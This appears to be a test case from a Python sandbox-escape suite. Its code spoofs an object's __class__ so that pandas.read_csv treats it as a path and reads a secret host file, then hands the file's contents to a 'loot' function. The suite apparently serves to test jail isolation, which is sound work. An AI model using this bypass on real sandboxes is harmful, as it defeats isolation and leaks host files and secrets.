# aim: read a file under a path object that hides what it is
# mechanism: pandas asks isinstance, which believes __class__
# language: builtins
# reason: a path is a file of the host
# jail: mount namespace, landlock
# plain: loot
# imports: pandas

import pandas


class Path:
    def __fspath__(self):
        return secret_path


class Liar:
    __class__ = property(lambda self: Path)

    def __getattr__(self, name):
        if name == "__fspath__":
            return lambda: secret_path
        raise AttributeError(name)


loot(str(list(pandas.read_csv(Liar()).columns)))
